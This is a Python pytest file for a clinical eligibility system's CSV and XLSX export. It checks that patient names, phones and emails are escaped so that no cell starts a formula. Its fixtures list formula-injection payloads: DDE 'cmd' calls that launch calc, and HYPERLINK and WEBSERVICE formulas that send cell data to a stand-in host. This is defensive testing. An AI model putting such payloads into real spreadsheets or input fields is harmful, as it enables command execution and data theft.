"""Whatever a patient is called, a spreadsheet that opens an export shows text and runs nothing."""

import unicodedata
from pathlib import Path
from typing import Any

import pytest
from openpyxl.cell.cell import TYPE_STRING

from eligibility.review.export import workbook
from eligibility.review.export.cells import plain, safe
from eligibility.review.export.columns import columns
from eligibility.review.export.formats import as_csv
from tests.exports import DICTIONARY, asked, cells_of_csv, cells_of_xlsx, lead, named, table, whole

pytestmark = pytest.mark.django_db

FORMULAS = (
    *("1+1", "1+1+cmd|' /C calc'!A0", 'HYPERLINK("http://192.0.2.1/?"&A1,"Click")', "SUM(A1:A9)"),
    *('cmd|"/C calc"!A0', "A1", "", '"x"', "1,2;3", 'WEBSERVICE("http://192.0.2.1/")'),
)
BEFORE = ("", " ", "  ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "'", "''")
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−")
LONE = ("\t1", "\r1", "\n1", "\t=1", "\r=1", "\n=1", " \t=1", "\r\n=1", "\x00=1", "=1\r\n=2")
HARMLESS = (
    *("Ruth Sample", "O'Brien", "'t Hooft", "Anna-Maria", "José Núñez", "Zoë, Jr.", 'A "B" C'),
    *("5 > 3", "a=b", "x@y.example", "張偉", "محمد", "😀", "A; B", "A | B", "1e5", "007", "a\tb"),
)
HOSTILE = (
    *(f"{sign}{formula}" for sign in SIGNS for formula in FORMULAS),
    *(f"{before}{sign}1+1" for before in BEFORE for sign in SIGNS),
    *LONE,
)


def starts_formula(text: str) -> bool:
    """As a spreadsheet that is as careless as any: a sign in any width, after anything blank."""
    seen = unicodedata.normalize("NFKC", text)
    bare = "".join(c for c in seen if not c.isspace() and unicodedata.category(c)[0] != "C")
    return bare[:1] in tuple("=+-@−") or text[:1] in tuple("\t\r\n")


def test_there_are_enough_hostile_names_and_each_would_start_a_formula() -> None:
    would = [text for text in HOSTILE if starts_formula(text.lstrip("'"))]
    assert len(set(would)) == len(set(HOSTILE)) >= 60
    assert not any(starts_formula(text) for text in HARMLESS)


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS])
def test_a_cell_is_text_and_comes_back_as_it_was(text: str) -> None:
    marked = safe(text)
    assert isinstance(marked, str)
    assert not starts_formula(marked)
    assert plain(marked) == text
    assert (marked == text) is (text in HARMLESS)


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS])
def test_one_such_cell_among_others_is_found_wherever_it_stands(text: str) -> None:
    harmless = ["Ruth", "", "2026-03", 58]
    for place in range(5):
        row = [*harmless[:place], text, *harmless[place:]]
        file = as_csv([harmless, row, harmless])
        _before, read, _after = cells_of_csv(file.encode())
        assert not any(map(starts_formula, read))
        assert list(map(plain, read)) == list(map(str, row))


@pytest.mark.shows("T12", "ASVS 1.3.3")
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_cell_of_a_file_starts_a_formula_and_every_name_is_kept(kind: str) -> None:
    names = {*HOSTILE, *HARMLESS}
    for text in names:
        named(text, phone=text, email=text)
    file = asked(lead(), kind, "identified")
    *rows, last = table(file, kind)
    assert last["problem"] == f"rows={len(names)} unreadable=0"
    for column in ("full_name", "phone", "email"):
        assert {row[column] for row in rows} == names
    if kind == "csv":
        cells = [cell for row in cells_of_csv(file) for cell in row]
        assert not [cell for cell in cells if starts_formula(cell)]


@pytest.mark.shows("T12", "ASVS 1.3.3")
def test_every_cell_of_a_workbook_is_text_or_a_number_of_the_protocol() -> None:
    for text in HOSTILE[:60]:
        named(text)
    for sheet in (0, 1):
        found = cells_of_xlsx(asked(lead(), "xlsx", "identified"), sheet)
        cells = [cell for row in found for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {TYPE_STRING, "n"}
        assert not [cell for cell in cells if cell.hyperlink]
        numbers = {found[0][cell.column - 1].value for cell in cells if cell.data_type == "n"}
        assert numbers <= {"age"}


@pytest.mark.shows("T12", "ASVS 1.3.3")
def test_the_dictionary_starts_no_formula_either() -> None:
    cells = [cell for row in cells_of_csv(whole(lead().get(DICTIONARY))) for cell in row]
    assert len(cells) > 500
    assert not [cell for cell in cells if starts_formula(cell)]


def test_a_sheet_that_is_full_goes_on_with_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MOST", 2)
    made = {named("Ruth Sample").reference for _ in range(4)}
    file = asked(lead(), "xlsx", "identified")
    found = [cells_of_xlsx(file, sheet) for sheet in range(3)]
    headings = list(columns(identified=True))
    assert all([cell.value for cell in sheet[0]] == headings for sheet in found)
    references = [row[0].value for sheet in found for row in sheet[1:]]
    assert references.pop() == "END"
    assert len(references) == 4
    assert set(references) == made


def test_a_workbook_leaves_no_file_behind(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, recwarn: Any
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    named("Ruth Sample")
    assert asked(lead(), "xlsx")
    assert list(tmp_path.iterdir()) == []
    monkeypatch.setattr(workbook, "dictionary", lambda identified: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        asked(lead(), "xlsx")
    assert list(tmp_path.iterdir()) == []
